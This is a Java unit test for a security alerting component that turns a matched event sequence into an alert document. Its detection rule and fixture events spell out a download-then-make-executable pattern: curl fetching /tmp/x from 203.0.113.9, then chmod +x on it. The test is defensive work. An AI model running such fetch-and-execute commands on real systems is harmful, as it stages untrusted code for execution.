package io.ncwatch.alert;

import static io.ncwatch.rules.TestRules.rule;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.ncwatch.job.TestEvents;
import io.ncwatch.record.Alert;
import io.ncwatch.record.Detection;
import io.ncwatch.record.MatchedSequence;
import io.ncwatch.record.SequenceEvent;
import io.ncwatch.rules.Rule;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class SequenceAlertDocumentTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Rule RULE = rule("seq", "sequence by container.id [process where process.name == \"curl\"]"
            + " [process where process.name == \"chmod\"]");
    private static final Instant CREATED = Instant.parse("2026-11-28T06:13:00Z");

    private static SequenceEvent member(String eventId, String timestamp, String name, String... args) {
        SequenceEvent event = new SequenceEvent();
        event.ruleId = RULE.ruleId();
        event.joinKeys = new String[] {"8c4b2f9e6a1d"};
        event.timestamp = Instant.parse(timestamp).toEpochMilli();
        event.eventId = eventId;
        event.topic = "ncwatch.process-events";
        event.offset = eventId.hashCode();
        event.raw = TestEvents.exec(eventId, timestamp, "8c4b2f9e6a1d", name, args).getBytes(StandardCharsets.UTF_8);
        return event;
    }

    private static final MatchedSequence MATCH = new MatchedSequence(new String[] {"8c4b2f9e6a1d"}, new SequenceEvent[] {
            member("e1", "2026-11-28T06:12:40Z", "curl", "curl", "-o", "/tmp/x", "http://203.0.113.9/x"),
            member("e2", "2026-11-28T06:12:41Z", "chmod", "chmod", "+x", "/tmp/x")}, new int[] {0, 1});

    private static JsonNode build(MatchedSequence match) throws IOException {
        Alert alert = new SequenceAlertDocument(new AlertDocument("ncwatch", "default")).build(RULE, Detection.ofSequence(RULE.ruleId(), match), CREATED);
        JsonNode doc = JSON.readTree(alert.json);
        assertThat(doc.path("event").path("id").asText()).isEqualTo(alert.id);
        return doc;
    }

    @Test
    void oneAlertCarriesTheSequenceItsJoinKeysAndTheFieldsAllMembersShare() throws IOException {
        JsonNode doc = build(MATCH);

        assertThat(doc.path("@timestamp").asText()).as("the last member's time").isEqualTo("2026-11-28T06:12:41.000Z");
        assertThat(doc.path("event").path("kind").asText()).isEqualTo("alert");
        assertThat(doc.path("rule").path("id").asText()).isEqualTo("seq");
        assertThat(doc.path("message").asText()).isEqualTo("Rule seq in container payments-api (8c4b2f9e6a1d):"
                + " curl -o /tmp/x http://203.0.113.9/x, then chmod +x /tmp/x");
        JsonNode sequence = doc.path("ncwatch").path("sequence");
        assertThat(doc.path("ncwatch").path("stage").asText()).isEqualTo("sequence");
        assertThat(sequence.path("join_keys").toString()).isEqualTo("[\"8c4b2f9e6a1d\"]");
        assertThat(sequence.path("events")).hasSize(2);
        JsonNode first = sequence.path("events").get(0);
        assertThat(first.path("stage").asInt()).isZero();
        assertThat(first.path("event_id").asText()).isEqualTo("e1");
        assertThat(first.path("@timestamp").asText()).isEqualTo("2026-11-28T06:12:40.000Z");
        assertThat(first.path("process").path("name").asText()).isEqualTo("curl");
        assertThat(first.path("process").path("args").toString()).isEqualTo("[\"curl\",\"-o\",\"/tmp/x\",\"http://203.0.113.9/x\"]");
        assertThat(sequence.path("events").get(1).path("process").path("name").asText()).isEqualTo("chmod");

        assertThat(doc.path("container").path("id").asText()).as("shared").isEqualTo("8c4b2f9e6a1d");
        assertThat(doc.path("container").path("image.name").asText()).as("shared, spelled as dotted").isEmpty();
        assertThat(doc.path("container").path("image").path("name").asText()).isEqualTo("registry.example/payments-api");
        assertThat(doc.path("process").path("parent").path("name").asText()).as("shared").isEqualTo("bash");
        assertThat(doc.path("host").path("name").asText()).as("shared").isEqualTo("node-17");
        assertThat(doc.path("process").has("name")).as("differs between the members").isFalse();
        assertThat(doc.path("process").has("entity_id")).as("differs between the members").isFalse();
    }

    @Test
    void theIdComesFromTheRuleAndTheMembers() throws IOException {
        String id = build(MATCH).path("event").path("id").asText();
        MatchedSequence other = new MatchedSequence(MATCH.joinKeys,
                new SequenceEvent[] {MATCH.events[0], member("e3", "2026-11-28T06:12:42Z", "chmod", "chmod", "+x", "/tmp/x")},
                new int[] {0, 1});

        assertThat(build(MATCH).path("event").path("id").asText()).as("again").isEqualTo(id);
        assertThat(id).isEqualTo(AlertId.ofSequence("seq", List.of("event.id:e1", "event.id:e2")));
        assertThat(build(other).path("event").path("id").asText()).as("another member").isNotEqualTo(id);
    }
}
